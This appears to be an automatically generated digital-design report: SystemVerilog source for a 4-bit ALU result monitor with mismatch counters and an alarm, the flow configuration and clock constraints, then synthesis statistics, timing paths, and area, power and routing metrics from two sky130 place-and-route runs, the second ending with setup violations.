$ cat src/rtl/alu_result_monitor.sv
// Runtime checker for a 4-bit ALU: recomputes result/carry/zero for every valid
// transaction, counts mismatches, logs the first unread one and raises a sticky alarm.
module alu_result_monitor #(
    parameter int ALARM_THRESH = 4,
    parameter int CNT_W        = 8
) (
    input  logic             clk,
    input  logic             rst_n,
    input  logic             in_valid,
    input  logic [3:0]       in_a,
    input  logic [3:0]       in_b,
    input  logic [1:0]       in_op,
    input  logic [3:0]       in_y,
    input  logic             in_carry,
    input  logic             in_zero,
    input  logic             clear,
    input  logic             log_ready,
    output logic             log_valid,
    output logic [3:0]       log_a,
    output logic [3:0]       log_b,
    output logic [1:0]       log_op,
    output logic [1:0]       log_kind,
    output logic [CNT_W-1:0] mismatch_cnt,
    output logic [CNT_W-1:0] total_cnt,
    output logic             alarm,
    output logic             busy
);

    typedef enum logic [1:0] {
        IDLE    = 2'd0,
        MONITOR = 2'd1,
        ALARM   = 2'd2
    } state_t;

    localparam logic [CNT_W-1:0] THRESH = CNT_W'(ALARM_THRESH);

    state_t     state, state_next;

    logic       s1_valid;
    logic [3:0] s1_a, s1_b, s1_y;
    logic [1:0] s1_op;
    logic       s1_carry, s1_zero;

    logic [4:0] sum, diff;
    logic [3:0] exp_y;
    logic       exp_carry, exp_zero;
    logic [1:0] kind;
    logic       mismatch, load, pop;
    logic [CNT_W-1:0] mis_next;

    // S1 capture; clear shares the reset path so a same-cycle transaction is dropped.
    always_ff @(posedge clk) begin
        if (!rst_n || clear) begin
            s1_valid <= 1'b0;
        end else begin
            s1_valid <= in_valid;
        end
    end

    // NOTE: the S1 payload is qualified by s1_valid, so it needs no reset and only
    // loads on a valid beat; keeping reset off wide data lets it map to plain flops.
    always_ff @(posedge clk) begin
        if (in_valid) begin
            s1_a     <= in_a;
            s1_b     <= in_b;
            s1_op    <= in_op;
            s1_y     <= in_y;
            s1_carry <= in_carry;
            s1_zero  <= in_zero;
        end
    end

    // NOTE: every signal written here gets a value before the case, so no path
    // leaves one unassigned and no latch is inferred.
    always_comb begin
        sum       = {1'b0, s1_a} + {1'b0, s1_b};
        diff      = {1'b0, s1_a} - {1'b0, s1_b};
        exp_y     = 4'd0;
        exp_carry = 1'b0;
        case (s1_op)
            2'b00: begin
                exp_y     = sum[3:0];
                exp_carry = sum[4];
            end
            2'b01: begin
                exp_y     = diff[3:0];
                exp_carry = diff[4];
            end
            2'b10:   exp_y = s1_a & s1_b;
            default: exp_y = s1_a | s1_b;
        endcase
        exp_zero = (exp_y == 4'd0);
        kind     = {(s1_y != exp_y) || (s1_carry != exp_carry), s1_zero != exp_zero};
    end

    assign mismatch = s1_valid && (kind != 2'b00);
    assign mis_next = mismatch_cnt + CNT_W'(mismatch && (mismatch_cnt != '1));
    assign pop      = log_valid && log_ready;
    assign load     = mismatch && (!log_valid || log_ready);

    always_comb begin
        state_next = state;
        case (state)
            IDLE: begin
                if (s1_valid) state_next = (mis_next >= THRESH) ? ALARM : MONITOR;
            end
            MONITOR: begin
                if (mis_next >= THRESH) state_next = ALARM;
            end
            default: state_next = ALARM;
        endcase
    end

    // NOTE: all state below uses non-blocking assignments so every register
    // samples the pre-edge values of the others, independent of statement order.
    always_ff @(posedge clk) begin
        if (!rst_n || clear) begin
            state        <= IDLE;
            total_cnt    <= '0;
            mismatch_cnt <= '0;
            log_valid    <= 1'b0;
            log_a        <= 4'd0;
            log_b        <= 4'd0;
            log_op       <= 2'd0;
            log_kind     <= 2'd0;
        end else begin
            state        <= state_next;
            mismatch_cnt <= mis_next;
            if (s1_valid && (total_cnt != '1)) total_cnt <= total_cnt + 1'b1;
            if (load) begin
                log_valid <= 1'b1;
                log_a     <= s1_a;
                log_b     <= s1_b;
                log_op    <= s1_op;
                log_kind  <= kind;
            end else if (pop) begin
                log_valid <= 1'b0;
            end
        end
    end

    assign alarm = (state == ALARM);
    assign busy  = (state != IDLE);

endmodule

$ cat config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = alu_result_monitor
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/alu_result_monitor.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CAP_MARGIN = 20
export CORE_ASPECT_RATIO = 0.6
export CORE_MARGIN = 3
export CORE_UTILIZATION = 51
export DETAILED_ROUTE_END_ITERATION = 10
export GPL_ROUTABILITY_DRIVEN = 0
export PLACE_DENSITY_LB_ADDON = 0.12
export SETUP_SLACK_MARGIN = 0.2
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
$ cat constraint.sdc
create_clock -name clk -period 4.43 [get_ports clk]
set_input_delay 0.443 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.443 -clock clk [all_outputs]
set_load 0.1 [all_outputs]
Word level (Yosys, flattened, before mapping)

Index checks and enable logic that the tools add are counted.

Logic and storage cells: 58
Input bits: 21
Register bits: 48
Output and inout bits: 31

Magnitude comparators: 1
Equality and inequality tests: 11
Bitwise operators: 2
Add/sub/neg operators: 4
Reductions and logical operators: 17
Multiplexer cells: 8

Operators with widths:

| cell                  | count |
|---|---|
| $ne A8 B8 Y1 const B  | 2 |
| $pmux W4 S3           | 1 |
| $add A8 B1 Y8         | 1 |
| $add A8 B1 Y8 const B | 1 |
| $ge A8 B3 Y1 const B  | 1 |
| $mux W2               | 3 |
| $reduce_bool A2 Y1    | 3 |
| $add A4 B4 Y5         | 1 |
| $logic_and A1 B1 Y1   | 5 |
| $sub A4 B4 Y5         | 1 |
| $and A4 B4 Y4         | 1 |
| $eq A2 B1 Y1 const B  | 2 |
| $eq A2 B2 Y1 const B  | 2 |
| $logic_not A2 Y1      | 2 |
| $logic_not A4 Y1      | 1 |
| $ne A2 B2 Y1 const B  | 2 |
| $ne A4 B4 Y1          | 1 |
| $or A4 B4 Y4          | 1 |
| $pmux W2 S2           | 1 |
| $logic_or A1 B1 Y1    | 3 |
| $logic_not A1 Y1      | 2 |
| $mux W1               | 2 |
| $ne A1 B1 Y1          | 2 |
| $pmux W1 S2           | 1 |
| $reduce_and A2 Y1     | 1 |

Depth between registers and ports, before layout

Gate-level depths: netlist of the first run.

Depth after elaboration: 12
Depth in mapped cells: 26
Depth with buffers taken out: 26

Least setup slack after synthesis of the first run

Ideal clock, no wire load.

Kind: register to register
From: register s1_a[0]
To: register state[0]
Clock period less this slack: 3.279 ns
Setup slack: 1.151 ns
Arrival: 3.214 ns
Stages on the path, launching flop included: 27
Path buffers: 0
Setup time: 0.065 ns
Data required time: 4.365 ns
Cell sequence: edfxtp_1 inv_1 ha_1 inv_1 fa_1 inv_1 nand2_1 nand3_1 nand3_1 nand2_1 and3_1 nand2_1 nand2_1 nand2_2 nand2_4 o211a_1 ha_1 ha_1 nand3_1 nor2_1 nand2_1 xnor2_1 inv_1 nand4_1 nor3_1 a21oi_1 nor2_1

Cells in the longest elaborated chain, start to end: 12
Elaborated cells between the ends (all ways): 21
Those cells by class: add/sub: 3; order compare: 1; eq/ne: 4; mux: 5; bitwise: 2; reduce/logical: 6

Ends and longest elaborated chain:

| what                                               | RTL line | RTL |
|---|---|---|
| start: declaration                                 | 40       | `logic [3:0] s1_a, s1_b, s1_y;` |
| start signal: assignment                           | 64       | `s1_a <= in_a;` |
| $sub A4 B4 Y5, or another cell as far along        | 77       | `diff = {1'b0, s1_a} - {1'b0, s1_b};` |
| $pmux W4 S3 or $pmux W1 S2 (tied branches)         | 80       | `case (s1_op)` |
| $logic_not A4 Y1, or another cell as far along     | 92       | `exp_zero = (exp_y == 4'd0);` |
| $ne A1 B1 Y1 or $logic_or A1 B1 Y1 (tied branches) | 93       | `kind = {(s1_y != exp_y) \|\| (s1_carry != exp_carry), s1_zero != exp_zero};` |
| $reduce_bool A2 Y1 (*)                             | 96       | `assign mismatch = s1_valid && (kind != 2'b00);` |
| $logic_and A1 B1 Y1 (*)                            | 96       |  |
| $logic_and A1 B1 Y1 (*)                            | 97       | `assign mis_next = mismatch_cnt + CNT_W'(mismatch && (mismatch_cnt != '1));` |
| $add A8 B1 Y8 (*)                                  | 97       |  |
| $ge A8 B3 Y1 (*)                                   | 105, 108 |  |
| $mux W2 (2 in series)                              | 105      | `if (s1_valid) state_next = (mis_next >= THRESH) ? ALARM : MONITOR;` |
| $pmux W2 S2                                        | 103      | `case (state)` |
| end signal: assignment                             | 127      | `state <= state_next;` |
| end: declaration                                   | 37       | `state_t state, state_next;` |

Every way passes the cells marked *; elsewhere a longest branch is shown, timed or not. The select of a mux whose other input is x is not followed.
A chain may end at the register's enable or synchronous reset.

Worst setup path in the final report of the first run

Same ends and word-level chain as after synthesis.

==> run_results.csv, run 1 <==
group,metric,value,unit
synthesis,netlist_area,2480,um^2
clocking,worstSkewPairLatency,300,ps
critical_path,endpoint_kind,"register",
final_layout,finalNetCount,402,
final_layout,diodes,0,
sta,relSlewSlack,33.2,%
synthesis,synth_ff_type,"dfxtp_1",
synthesis,synthTopCellsByArea,"dfxtp_1 26%, edfxtp_1 19%, nand2_1 9.5%, inv_1 8.2%, ha_1 7.6%",
drt,viasPerCell,4.86,
critical_path,path_max_fanout,4,
drt,drtPass1Iterations,4,
die,io_pins,52,
clocking,htree_levels,2,
clocking,cts_root_buffer,"clkbuf_8",
clocking,cts_resized,0,
clocking,post_cts_buffers,0,
sta,worst_pin_slew,999,ps
pwr,peakVddDrop,0.176,mV
clocking,clock_path_buffers,2,
synthesis,syn_inst,311,
grt,antenna_found_initial,0,
die,std_cell_rows,18,
critical_path,crit_arrival,3800,ps
grt,grt_pass1_wl,8470,um
sta,fin_crit_sh,80.3,%
final_layout,final_cell_mix,"63 x nand2_1, 54 x inv_1, 51 x clkdlybuf4s50_1, 42 x nor2_1, 32 x dfxtp_1",
outcome,outcome,"complete, no violations",
drt,ant_nets,0,
place,dp_slack,932,ps
drt,drt_iter0_drc,195,
sta,timing.final.ws_setup,875,ps
pwr,p_leak,0.00138,uW
sta,finalSetupViolCount,0,
die,die-area,5760,um^2
critical_path,worstSetupStartpointType,"register",
sta,period_needed,3560,ps
sta,slew_violations,0,
clocking,cts_tree,"done",
clocking,cts_num_sinks,48,
run,cap_violations,0,
synthesis,synth_cell_types,31,
final_layout,n_fill_cell,363,
clocking,cts_hold_buffers,0,
sta,fmax,281,MHz
die,initial_utilization,56.4,%
synthesis,ys_seq_area_share,45.2,%
die,die_height,60,um
die,die_x,96,um
grt,grt_pass1_vias,1882,
die,core_area,4390,um^2
sta,clock_skew,5.05,ps
synthesis,synth-seq-cells,48,
synthesis,synth_area_leader_cell,"dfxtp_1",
synthesis,synth_top_area_share,25.8,%
place,dp_hpwl,3900,um
grt,grt_max_degree,24,
drt,wire_per_inst,12.4,um
drt,post-route-drc-count,0,
drt,vias,2065,
clocking,clkTransAtPathRegs,90,ps
final_layout,drive_above_1_share,5.21,%
grt,grt-ovfl-total,0,
final_layout,layout.cells.most_common,"nand2_1",
sta,rsz0062_at_grt,"no",
sta,final.setup.tns,0,ps
final_layout,synthToLayoutAreaGrowth,27.3,%
synthesis,synth_nets,349,
grt,grtUsageTotal,19.7,%
synthesis,syn_avg_cell_area,7.97,um^2
hold_path,hp-class,"register to register",
critical_path,path_class,"register to register",
place,port_buffers,51,
critical_path,cp_data_required_time,4680,ps
pwr,powerDensity,312,nW/um^2
drt,drt_wl_total,5260,um
synthesis,synth_edf_count,16,
synthesis,synth-async-reset-ratio,0,%
synthesis,yosysWarnings,0,
clocking,numCtsBuffers,5,
sta,finalHoldViolations,0,
[synthesized netlist by cell type (all sizes together), types with 2 or more instances]
| cell type | number |
|---|---|
| nor3 | 4 |
| dfxtp | 32 |
| buf | 3 |
| nor2 | 45 |
| nand4 | 7 |
| xnor2 | 5 |
| inv | 56 |
| edfxtp | 16 |
| clkbuf | 3 |
| a21oi | 14 |
| nand2 | 65 |
| ha | 15 |
| o21ai | 10 |
| fa | 2 |
| nand3 | 24 |
| xor2 | 4 |
[path summary, 6_finish.rpt]
path	endpoint	startpoint	slack (ps)	depth (start not counted)
max	state[0]	s1_a[0]	870	24
min	total_cnt[0]	total_cnt[0]	500	1
max reg2reg	state[0]	s1_a[0]	870	24
min reg2reg	total_cnt[0]	total_cnt[0]	500	1
[metrics by stage]
stage	util [%]	power, uW	instance area [um^2]	cells	hold slack [ps]
6_report	71.8	984	3150	425	502
5_1_grt	71.8	1030	3150	425	535
4_1_cts	71.8	986	3150	425	503
3_5_place_dp	69.1	666	3030	417	485
3_3_place_gp	69.1	662	3030	417	475
2_1_floorplan	-	615	2480	311	499
[report_power, final]
group	leakage (uW)	internal [uW]	switching (uW)
logic	0.000900	62.8	108
clock network	0.0000627	177	148
registers	0.000415	472	15.7
total	0.00138	711	272
[final cells by class]
class | count | area, um^2 | share of cell area [%]
clock buffer | 8 | 121 | 3.85
inverter | 57 | 214 | 6.78
multi-input combinational | 200 | 1100 | 35.0
sequential | 48 | 1120 | 35.5
tap | 60 | 75.1 | 2.38
timing repair buffer | 52 | 518 | 16.4
[layer usage]
metal  part of all wire (%)  GRT usage (%)
met1                     49           28.8
met2                     42           27.4
met3                    7.5           5.79
met4                    1.3           7.09
met5                      0              0
[logic make-up (layout without fill, tap and decap cells)]
group / count (synthesis) / in the layout / share of synthesized area, %
AND/OR/NAND/NOR: 148 / 148 / 26.5
buffers and inverters: 63 / 117 / 10.2
flip-flops: 48 / 48 / 45.2
AO/OA/AOI/OAI: 26 / 26 / 5.70
adder cells (fa/ha/maj): 17 / 17 / 9.19
XOR/XNOR: 9 / 9 / 3.18
[flip-flops by register name (all words and copies together) (netlist names), 2 cells and up]
| signal | cells |
|---|---|
| log_kind | 2 |
| s1_b | 4 |
| s1_y | 4 |
| log_op | 2 |
| s1_a | 4 |
| s1_op | 2 |
| log_b | 4 |
| total_cnt | 8 |
| log_a | 4 |
| state | 2 |
| mismatch_cnt | 8 |
[critical path: stages (launching register included)]
cell	delay, ps
edfxtp_1	430
inv_1	100
ha_1	140
inv_1	60
fa_1	410
inv_1	70
nand2_1	40
nand3_1	90
nand3_1	70
nand2_1	90
and3_1	170
nand2_1	50
nand2_1	70
nand2_2	70
nand2_4	100
o211a_1	150
ha_1	170
ha_1	180
nand3_1	110
xor2_1	170
nor3_1	210
nand4_1	150
nor3_1	220
a21oi_1	60
nor2_1	80
No activity file was read; power rests on OpenSTA's default activity.
==> run 2, diff against run 1 <==
CORE_UTILIZATION = 46   (was 51)
clock period = 3.24 ns   (was 4.43 ns; I/O delays follow)
==> run_results.csv, run 2 (synthesis gave the netlist of run 1 again) <==
group,metric,value,unit
outcome,outcome,"finished, violations left",
outcome,violations,"setup timing",
die,die-area,6330,um^2
clocking,cts_tree,"done",
die,die_x,101,um
drt,drt_iter0_drc,182,
clocking,clkTransAtPathRegs,90,ps
grt,antenna_found_initial,0,
final_layout,diodes,0,
run,cap_violations,0,
place,dp_hpwl,3910,um
drt,drt_wl_total,5670,um
drt,viasPerCell,4.73,
drt,post-route-drc-count,0,
critical_path,critPathTopFamily,"adder cells",
final_layout,final_cells,456,
sta,fmax,279,MHz
final_layout,final_util,67.8,%
critical_path,cp_common_cell,"nand2_2",
pwr,seqPwrFrac,49.1,%
final_layout,drive_above_1_share,19.7,%
critical_path,crit_arrival,3830,ps
critical_path,crit_start,"s1_b[0]",
die,die_height,62.9,um
drt,vias,2156,
clocking,cts_hold_buffers,0,
critical_path,cpMaxStageDelayCell,"fa_2",
pwr,powerDensity,389,nW/um^2
die,initial_utilization,48.3,%
pwr,combPwrFrac,20.7,%
pwr,peakVddDrop,0.236,mV
clocking,numCtsBuffers,5,
sta,final.setup.tns,-942,ps
sta,fin_crit_sh,111,%
sta,timing.final.ws_setup,-345,ps
sta,finalHoldViolations,0,
die,core_area,5130,um^2
final_layout,synthToLayoutAreaGrowth,40.3,%
pwr,p_switching,394,uW
clocking,worstSkewPairLatency,300,ps
final_layout,finalNetCount,427,
sta,clock_skew,8.15,ps
drt,drtPass1Iterations,4,
drt,wire_per_inst,12.4,um
place,dp_cells,433,
sta,relSlewSlack,34.6,%
sta,finalSetupViolCount,3,
clocking,cts_root_buffer,"clkbuf_8",
place,dp_slack,-200,ps
die,io_pins,52,
drt,ant_nets,0,
critical_path,reg2reg_from,"s1_b[0]",
critical_path,critPathMaxStageDelay,520,ps
place,port_buffers,51,
final_layout,final_cell_mix,"57 x nand2_1, 51 x clkdlybuf4s50_1, 47 x inv_1, 38 x nor2_1, 32 x dfxtp_1",
pwr,switching_share,29.1,%
critical_path,path_max_fanout,3,
clocking,cts_num_sinks,48,
sta,period_needed,3580,ps
grt,grt-ovfl-total,0,
sta,worst_pin_slew,979,ps
grt,grtUsageTotal,18.6,%
grt,grt_max_degree,24,
critical_path,cp_data_required_time,3480,ps
pwr,clkPwrFrac,30.2,%
pwr,internal_power,960,uW
final_layout,layout.cells.most_common,"nand2_1",
critical_path,endpoint_kind,"register",
hold_path,min_from,"total_cnt[2]",
die,std_cell_rows,20,
sta,slew_violations,0,
hold_path,hp-class,"register to register",
sta,rsz0062_at_grt,"yes",
clocking,htree_levels,2,
grt,grt_pass1_vias,1969,
final_layout,reg_top3,"mismatch_cnt (8), total_cnt (8)",
critical_path,path_class,"register to register",
critical_path,crit_buf_inv,7,
grt,grt_pass1_wl,9410,um
pwr,p_leak,0.00149,uW
clocking,clock_path_buffers,2,
critical_path,worstSetupStartpointType,"register",
run 2: cell count changes in the layout (fill, tap and decap cells not counted), sizes merged:
cell,delta
buf,+25
clkbuf,-2
clkinv,+1
inv,+1
run 2: timing repair:
item	4_1_cts	5_1_grt
endpoints found under the hold margin	0	0
endpoints found under the setup margin	4	8
setup buffers	10	5
pin swaps	19	12
gates resized for setup	15	18
run 2: worst paths after layout:
path	cells past startpoint	end	slack, ps
max	25	mismatch_cnt[6]	-340
min	2	total_cnt[2]	490
max reg2reg	25	mismatch_cnt[6]	-340
min reg2reg	2	total_cnt[2]	490
run 2: area by class of cell:
cell class	count	area (um^2)
clock buffer	6	93.8
clock inverter	2	11.3
fill	422	1650
inverter	57	214
multi-input combinational	200	1250
sequential	48	1120
tap	66	82.6
timing repair buffer	77	706
run 2: metal layers:
metal / GRT usage [%] / routed length (um) / vias up
li1: - / - / 1128
met2: 26.4 / 2390 / 61
met3: 4.57 / 351 / 5
met4: 4.03 / 38 / 0
met5: 0 / 0 / -
met1: 28.3 / 2890 / 962
run 2: power groups by stage:
stage	Clock [uW]	Sequential, uW	Combinational (uW)
after floorplan	0	708	134
after global placement	0	677	244
after detailed placement	0	678	245
after CTS	418	665	266
after global routing	444	668	312
final	409	665	281
run 2: tightest hold or removal path: stages (launching register included):
cell,delay [ps]
dfxtp_1,350
inv_1,60
a21oi_1,50
run 2: per-stage QoR:
step | cell area (um^2) | total power (uW) | hold WS [ps]
after global placement | 3140 | 921 | 474
after global routing | 3480 | 1430 | 537
after floorplan | 2510 | 842 | 423
after CTS | 3390 | 1350 | 499
after detailed placement | 3140 | 923 | 485
final | 3480 | 1350 | 495
